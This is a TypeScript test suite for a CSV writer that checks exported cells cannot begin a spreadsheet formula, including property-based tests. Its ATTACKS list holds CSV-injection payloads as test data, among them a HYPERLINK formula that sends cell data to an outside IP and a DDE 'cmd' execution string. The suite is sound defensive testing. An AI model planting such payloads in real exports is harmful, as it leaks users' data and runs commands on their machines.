import { describe, expect, it } from '@jest/globals'
import { csvCell, csvNumber, csvWriter, guardFormulas, withoutGuards } from '@rastro/core'
import * as fc from 'fast-check'
import { looseCells, parseCsv } from './strict-csv.ts'

/** What spreadsheets take for a formula: after spaces, quotes and what nobody sees. */
const RUNS = /^[\s\p{Cc}\p{Cf}"'‘’“”«»`´]*[=+\-@＝＋－＠]/u

/** A `'` before it: what follows is text. */
const GUARDED = /^[\s\p{Cc}\p{Cf}"]*'/u

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://198.51.100.7/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  '\rplain',
  '\nplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  "'=1+1",
  '“=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'Ana;=1+1;',
  'Ana";=1+1;"',
  'Ana; =1+1',
  'Ana;"=1+1"',
  'a\t=1+1',
  'a\r\n=1+1',
  'a\n=1+1\nb',
  'a|=1+1',
  'a;@SUM(1)',
  'a;\u200b+1',
]

function file(...rows: readonly string[]): string {
  const writer = csvWriter<string>([
    { label: 'first', cell: () => 'x' },
    { label: 'text', cell: csvCell },
    { label: 'last', cell: () => 'y' },
  ])
  return writer.head() + writer.rows(rows) + writer.tail()
}

function cellOf(text: string): string {
  return parseCsv(file(text))[1]?.[1] ?? ''
}

describe('a cell', () => {
  for (const attack of ATTACKS) {
    it(`never begins a formula: ${JSON.stringify(attack)}`, () => {
      expect(cellOf(attack)).toBe(guardFormulas(attack))
      expect(cellOf(attack).startsWith("'") || !RUNS.test(cellOf(attack))).toBe(true)
      for (const separator of [',', ';', '\t', '|']) {
        const cells = looseCells(file(attack), separator)
        expect(cells.filter((cell) => RUNS.test(cell) && !GUARDED.test(cell))).toEqual([])
      }
    })

    it(`gives the text back: ${JSON.stringify(attack)}`, () => {
      expect(withoutGuards(cellOf(attack))).toBe(attack)
    })
  }

  it('leaves ordinary texts as they are', () => {
    for (const text of [
      'João Silva',
      '',
      '5 min',
      'a-b',
      'x=1',
      'ana@example.com',
      '2026-01-01',
      '12:00',
      '{"a":1}'.slice(0, 1),
    ]) {
      expect(csvCell(text)).toBe(text)
    }
  })

  it('is quoted where it has to be, and nowhere else', () => {
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('a"b')).toBe('"a""b"')
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"')
    expect(csvCell(' a')).toBe('" a"')
    expect(csvCell('a ')).toBe('"a "')
    expect(csvCell('[1]')).toBe('[1]')
  })

  it('keeps the sign of a number, and of nothing that only looks like one', () => {
    expect([csvNumber(-5), csvNumber(-0.5), csvNumber(7n)]).toEqual(['-5', '-0.5', '7'])
    expect(csvNumber(-1e30)).toBe("'-1e+30".replace(/^/, '"') + '"')
    expect(csvCell('-5')).toBe(`"'-5"`)
  })
})

const TRICKY = fc.array(
  fc.oneof(
    fc.constantFrom(
      ...Array.from('=+-@＝;,|\t\r\n"\' '),
      '\u200b',
      '\ufeff',
      'a',
      '1',
      'ã',
      '😀',
      "'=",
    ),
    fc.string({ unit: 'grapheme', maxLength: 3 }),
  ),
  { maxLength: 12 },
)

describe('any text', () => {
  it('comes back from a strict reader as it was', () => {
    fc.assert(
      fc.property(
        fc.array(
          TRICKY.map((parts) => parts.join('')),
          { minLength: 1, maxLength: 5 },
        ),
        (texts) => {
          const read = parseCsv(file(...texts)).slice(1)
          expect(read.map(([, text]) => withoutGuards(text ?? ''))).toEqual(texts)
        },
      ),
      { numRuns: 2_000 },
    )
  })

  it('begins no formula, whatever the list separator is', () => {
    fc.assert(
      fc.property(TRICKY, fc.constantFrom(',', ';', '\t', '|'), (parts, separator) => {
        const cells = looseCells(file(parts.join('')), separator)
        expect(cells.filter((cell) => RUNS.test(cell) && !GUARDED.test(cell))).toEqual([])
      }),
      { numRuns: 2_000 },
    )
  })

  it('is a line also where every cell is empty', () => {
    const writer = csvWriter<string>([{ label: 'only', cell: csvCell }])
    expect(parseCsv(writer.head() + writer.rows(['', 'a', '']))).toEqual([
      ['only'],
      [''],
      ['a'],
      [''],
    ])
  })
})
